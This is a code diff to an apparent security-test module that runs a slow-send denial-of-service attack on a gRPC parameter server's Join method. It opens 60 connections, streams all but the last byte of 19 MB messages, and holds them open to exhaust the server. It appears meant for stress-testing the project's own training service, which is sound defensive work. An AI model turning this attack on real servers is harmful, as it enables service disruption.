@@ -15,10 +15,10 @@ from typing import Any
 
 import grpc
 from attack import Evidence, Over, Seen, Target
-from http2 import HalfCall
 from intruder import Intruder, refused
 
 from diloco_protos import parameter_server_pb2 as pb
+from http2 import CALL, HalfCall
 
 JOIN_BYTES = 19 * 10**6
 CONNECTIONS = 60
@@ -44,7 +44,8 @@ def half_joins(target: Target, over: Over) -> Seen:
     ):
         for _ in range(CONNECTIONS):
             with contextlib.suppress(OSError):
-                calls.append(HalfCall(target.grpc, "/diloco.v1.ParameterServer/Join", said, JOIN_BYTES, tls))
+                calls.append(HalfCall(target.grpc, f"{CALL}Join", said, tls))
+                calls[-1].begin_message(JOIN_BYTES)
     calls = strangers + insiders
     threads = [threading.Thread(target=_pour, args=(call, over), daemon=True) for call in calls]
     for thread in threads:
@@ -57,14 +58,16 @@ def half_joins(target: Target, over: Over) -> Seen:
         "MB taken of insiders": sum(call.sent for call in insiders if call.frames) / 1e6,
         "strangers heard": sum(call.frames > 0 for call in strangers),
         "insiders heard": sum(call.frames > 0 for call in insiders),
-        "ended": sum(call.ended for call in calls),
+        "ended": sum(call.is_over for call in calls),
     }
     return Seen(Counter(), facts)
 
 
 def _pour(call: HalfCall, over: Over) -> None:
-    call.pour(over)
-    call.hold(over)
+    """All but the last byte of the message, as fast as it is taken; then it is held open."""
+    while not over() and not call.is_over:
+        if not call.pour(JOIN_BYTES - 1 - call.sent):
+            call.listen(wait_s=0.2)
     call.close()
 
 
